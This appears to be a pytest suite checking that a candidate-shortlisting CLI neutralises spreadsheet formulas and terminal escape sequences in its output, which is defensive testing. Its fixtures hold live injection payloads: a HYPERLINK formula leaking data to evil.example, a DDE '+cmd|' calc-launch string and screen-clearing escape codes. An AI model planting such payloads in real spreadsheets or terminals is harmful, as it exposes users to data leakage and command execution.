"""Text from files reaches spreadsheets and terminals as text (issue 13): never a formula, never markup, never
a terminal escape sequence, never a character a workbook cannot hold."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from speccheck.cli import main
from speccheck.core.errors import ExitCode
from tests.cli.inputs import ROLE

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x9b31m"
IN_YAML = r"\x1b]0;pwned\x07\x1b[2J\u009b31m"  # the same, as YAML escapes (raw control characters are refused)
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'


def _batch(tmp_path: Path) -> list[str]:
    (tmp_path / "role.yaml").write_text(ROLE)
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "a.yaml").write_text(
        "kind: candidate\nversion: 1\nid: C-1\n"
        f'personal_details: {{first_name: "[/][red]Ada{IN_YAML}", last_name: "Quill\\u0001"}}\n'
        'professional_status: {qualified_teacher_status: "yes"}\n'
        f'evidence: [{{text: "I led safeguarding training.{IN_YAML} [bold]x[/bold]", criteria: [E2]}}]\n'
    )
    with (tmp_path / "s1.csv").open("w", newline="") as sheet:
        writer = csv.writer(sheet)
        writer.writerow(["panellist", "candidate", "criterion", "score", "note"])
        writer.writerow([FORMULA, "C-1", "E2", "3", "\t=1+1 [/] note\x07"])
        writer.writerow(["@SUM(A1)", "C-1", "E2", "0", "+cmd|' /C calc'!A0"])
    with (tmp_path / "m.csv").open("w", newline="") as sheet:
        writer = csv.writer(sheet)
        writer.writerow(["candidate", "criterion", "score", "reason"])
        writer.writerow(["C-1", "E2", "2", f"{FORMULA}\x1b[2J\x0b"])
    return [
        "shortlist",
        str(tmp_path / "role.yaml"),
        str(tmp_path / "c"),
        "--scores",
        str(tmp_path / "s1.csv"),
        "--moderated",
        str(tmp_path / "m.csv"),
        "--as-of",
        "2025-02-01",
    ]


def test_workbook_cells_are_text_without_control_characters(tmp_path: Path) -> None:
    out = tmp_path / "grid.xlsx"
    assert main([*_batch(tmp_path), "-o", str(out)]) == ExitCode.OK
    book = load_workbook(out)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not any((ord(ch) < 32 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F for ch in cell.value)
    joined = "\n".join(texts)
    assert FORMULA in joined and "@SUM(A1)" in joined  # kept as the text it is


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "grid.csv"
    assert main([*_batch(tmp_path), "-o", str(out)]) == ExitCode.OK
    for row in csv.reader(io.StringIO(out.read_text())):
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (cell[:1] == "-" and cell[1:2].isalpha())


def test_csv_renderer_escapes_a_leading_tab_or_carriage_return() -> None:
    from speccheck.report.shortlist_csv import _safe

    assert _safe("\t=1+1") == "'\t=1+1" and _safe("\r=1") == "'\r=1" and _safe("-1.5") == "-1.5"


@pytest.mark.parametrize("color", ["never", "always"])
def test_terminal_output_has_no_escape_from_data_and_reads_no_markup(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], color: str
) -> None:
    assert main([*_batch(tmp_path), "--color", color]) == ExitCode.OK
    captured = capsys.readouterr()
    for stream in (captured.out, captured.err):
        assert "\x07" not in stream and "\x1b]" not in stream and "\x1b[2J" not in stream and "\x9b" not in stream
    assert "[/][red]Ada" in captured.out or "[bold]x[/bold]" in captured.out  # shown as written
    if color == "never":
        assert "\x1b" not in captured.out


def test_evaluate_and_lint_lines_strip_escapes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _batch(tmp_path)
    bad = tmp_path / f"bad{ESCAPES[:3]}.yaml"
    bad.write_text(f'kind: candidate\nversion: 1\nid: C-2\n"nope{IN_YAML}": 1\n')
    for args in (["evaluate", str(tmp_path / "role.yaml"), str(bad)], ["lint", str(bad), "-f", "parsable"]):
        main(args)
        captured = capsys.readouterr()
        assert "\x1b" not in captured.out + captured.err and "\x07" not in captured.out + captured.err


# --------------------------------------------------------------------------- the panel's outputs (issue 12) too

HOSTILE_NAME = '=HYPERLINK("x")\x1b[2J'


def _texts_of(path: Path) -> list[str]:
    """Every string cell of a workbook, after checking none is a formula or holds a control character."""
    texts = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not any((ord(ch) < 32 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F for ch in cell.value)
    return texts


def test_the_printable_workbook_and_the_score_sheets_keep_names_and_text_as_text(tmp_path: Path) -> None:
    """A panellist named like a formula, with an escape sequence, and candidate text starting "=": plain text in
    the shortlist workbook (its Summary sheet and signature block too) and in ``speccheck scoresheet``'s."""
    args = _batch(tmp_path)
    role = tmp_path / "role.yaml"
    role.write_text(ROLE.replace("title: Assistant Headteacher", 'title: "=HYPERLINK(\\"x\\")\\x1b[2J"'))
    (tmp_path / "c" / "b.yaml").write_text(
        "kind: candidate\nversion: 1\nid: C-2\n"
        'professional_status: {qualified_teacher_status: "yes"}\n'
        'evidence: [{text: "=HYPERLINK(\\"x\\") I led safeguarding.\\x1b[2J", criteria: [E2]}]\n'
    )
    grid = tmp_path / "grid.xlsx"
    assert main([*args, "--panel", HOSTILE_NAME, "--panel", "R Patel", "-o", str(grid)]) == ExitCode.OK
    sheets = tmp_path / "sheets.xlsx"
    assert main(["scoresheet", str(role), str(tmp_path / "c"), "--panellist", HOSTILE_NAME, "-o", str(sheets)]) in (
        ExitCode.OK,
        ExitCode.FINDINGS,
    )
    for path in (grid, sheets):
        joined = "\n".join(_texts_of(path))
        assert '=HYPERLINK("x")' in joined and "[2J" in joined, path.name  # the text as written, minus the ESC
        assert "\x1b" not in joined
    assert any(name.startswith('=HYPERLINK("x")') for name in load_workbook(sheets).sheetnames)


def test_the_xlsx_layout_helpers_write_through_the_text_safe_writer() -> None:
    from openpyxl import Workbook

    from speccheck.report.xlsx_layout import head_row, put, write_row

    sheet = Workbook().active
    assert sheet is not None
    put(sheet, "A1", '=HYPERLINK("x")\x1b[2J')
    write_row(sheet, 2, ["=1+1", "@SUM(A1)\x07", 3, None])
    head_row(sheet, 3, ["=cmd|' /C calc'!A0"])
    cells = [sheet["A1"], sheet["A2"], sheet["B2"], sheet["A3"]]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == ['=HYPERLINK("x")[2J', "=1+1", "@SUM(A1)", "=cmd|' /C calc'!A0"]
    assert sheet["C2"].value == 3 and sheet["D2"].value is None


def test_finding_lines_strip_escapes_and_read_no_markup() -> None:
    from speccheck.core.findings import Finding, Position, Severity
    from speccheck.report.terminal_parts import FindingLines, finding_text, indented, to_text

    finding = Finding(
        rule_id="r",
        severity=Severity.ERROR,
        message=f"criterion [red]x[/red] {ESCAPES} [/]",
        position=Position(path=f"a{ESCAPES}.yaml", line=1, col=1),
        fix="[bold]fix[/bold]\x1b[2J",
    )
    for view in (FindingLines([finding]), finding_text(finding, 80), indented(finding_text(finding, 60))):
        for color in (True, False):
            out = to_text(view, width=80, color=color)
            assert "[red]x[/red]" in out and "[/]" in out and "[bold]fix[/bold]" in out
            assert "\x07" not in out and "\x1b]" not in out and "\x1b[2J" not in out and "\x9b" not in out
            if not color:
                assert "\x1b" not in out


@pytest.mark.parametrize("extra", [["--details"], ["--anonymise", "--details"]])
def test_the_shortlist_detail_view_strips_escapes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], extra: list[str]
) -> None:
    assert main([*_batch(tmp_path), "--color", "always", "--panel", HOSTILE_NAME, *extra]) == ExitCode.OK
    captured = capsys.readouterr()
    for stream in (captured.out, captured.err):
        assert "\x07" not in stream and "\x1b]" not in stream and "\x1b[2J" not in stream and "\x9b" not in stream


def test_the_evaluation_view_strips_escapes_and_reads_no_markup(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _batch(tmp_path)
    for color in ("always", "never"):
        main(["evaluate", str(tmp_path / "role.yaml"), str(tmp_path / "c"), "--color", color, "--details"])
        captured = capsys.readouterr()
        for stream in (captured.out, captured.err):
            assert "\x07" not in stream and "\x1b]" not in stream and "\x1b[2J" not in stream and "\x9b" not in stream
        assert "[/][red]Ada" in captured.out or "[bold]x[/bold]" in captured.out
